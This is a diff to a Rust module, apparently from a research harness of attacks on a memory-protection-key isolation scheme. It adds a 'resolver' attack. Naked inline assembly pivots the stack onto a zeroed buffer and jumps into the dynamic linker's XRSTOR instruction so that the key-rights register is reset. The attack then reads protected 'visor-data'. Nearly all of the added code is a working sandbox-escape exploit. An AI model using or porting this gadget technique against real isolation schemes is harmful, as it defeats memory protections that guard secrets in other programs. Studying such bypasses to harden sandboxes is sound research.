@@ -1,7 +1,7 @@
 //! Jumps into trusted code: instruction fetch knows no keys, so every instruction of the process can be reached.
 //!
-//! `what` is a gate (`stub`, `exit`, `signal-entry`), `sweep`, `middle` (of an instruction of one's own), or a place, which is
-//! called as a function. A sweep goes to another byte of its gate in each attempt: `how` is `stub`, `victims-stub`, `exit`, `tail` or
+//! `what` is a gate (`stub`, `exit`, `signal-entry`), `sweep`, `middle` (of an instruction of one's own), `resolver` (the dynamic
+//! linker's XRSTOR), or a place, which is called as a function. A sweep goes to another byte of its gate in each attempt: `how` is `stub`, `victims-stub`, `exit`, `tail` or
 //! `signal-entry`, and `registers` if they all hold trusted addresses, otherwise those that WRPKRU looks at are zero; `skip-N`
 //! leaves a byte out.
 //! With gates, `how` is a list of choices, separated by commas:
@@ -20,7 +20,7 @@ use crate::leap::{Registers, leap};
 use crate::memory::{dear, touch};
 use crate::victim::{Dear, OVER};
 use crate::{Attack, Booty, number};
-use core::arch::asm;
+use core::arch::{asm, naked_asm};
 use monohull_abi::layout::{
     ARENA_BASE, CARRIER_BASE, CARRIER_SIZE, CELL_SIZE, CarrierLine, FRAMES_BASE, INFO_BASE, KEY_COUNT, PAGE,
 };
@@ -68,6 +68,7 @@ pub(crate) fn strike(attack: &Attack) -> Booty {
         "signal-entry" => signal_entry(attack),
         "sweep" => sweep(attack),
         "middle" => middle(),
+        "resolver" => resolver(attack),
         place => call(attack, attack.places.find(place)?),
     }
 }
@@ -266,6 +267,46 @@ fn middle() -> Booty {
         );
     }
     number(process)
+}
+
+/// What XRSTOR reads behind 64 bytes of other registers: all zeros, with which it puts what it is asked for in its first state.
+#[repr(C, align(64))]
+struct Saved([u8; 2048]);
+
+static SAVED: Saved = Saved([0; 2048]);
+
+/// The resolver of lazy binding restores registers from its stack, the rights of keys among them if it is asked for those, and goes
+/// on at an address that is in a register.
+fn resolver(attack: &Attack) -> Booty {
+    // SAFETY: none; it is an attack.
+    unsafe { restore(attack.places.find("ld-xrstor")?, &SAVED) };
+    touch(attack.places.find("visor-data")?, "read")
+}
+
+/// Jumps to that XRSTOR with `saved` as its stack.
+///
+/// # Safety
+/// None; it is an attack.
+#[unsafe(naked)]
+unsafe extern "C" fn restore(xrstor: u64, saved: &Saved) {
+    naked_asm!(
+        "push rbx",
+        "push r12",
+        "mov r12, rsp",
+        // It takes its stack back from rbx.
+        "lea rbx, [rsp - 128]",
+        "lea r11, [rip + 2f]",
+        "mov rsp, rsi",
+        // The rights of keys, and nothing else.
+        "mov eax, 1 << 9",
+        "xor edx, edx",
+        "jmp rdi",
+        "2:",
+        "mov rsp, r12",
+        "pop r12",
+        "pop rbx",
+        "ret",
+    )
 }
 
 /// A function of the trusted side: copies, switches or serves for whoever calls it, one should think.
